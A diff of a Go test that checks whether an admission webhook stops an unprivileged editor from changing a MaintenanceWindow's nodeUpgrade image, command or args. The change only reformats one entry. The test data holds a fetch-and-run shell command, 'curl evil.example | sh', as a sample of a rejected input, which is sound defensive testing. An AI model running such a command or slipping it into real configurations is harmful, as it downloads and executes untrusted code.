@@ -98,8 +98,10 @@ var _ = Describe("MaintenanceWindow nodeUpgrade admission", func() {
 			return updateAs(cEditor, mw.Name, func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade.Image = "evil.example/root:1" })
 		}).WithTimeout(10 * time.Second).Should(MatchError(ContainSubstring(`spec.nodeUpgrade: user "` + editor + `" may not create Jobs`)))
 		for name, change := range map[string]func(*itmv1.MaintenanceWindow){
-			"command": func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade.Command = []string{"/bin/sh", "-c", "curl evil.example | sh"} },
-			"args":    func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade.Args = []string{"--evil"} },
+			"command": func(o *itmv1.MaintenanceWindow) {
+				o.Spec.NodeUpgrade.Command = []string{"/bin/sh", "-c", "curl evil.example | sh"}
+			},
+			"args": func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade.Args = []string{"--evil"} },
 		} {
 			Expect(updateAs(cEditor, mw.Name, change)).To(MatchError(ContainSubstring(`spec.nodeUpgrade: user "`+editor+`"`)), name)
 		}
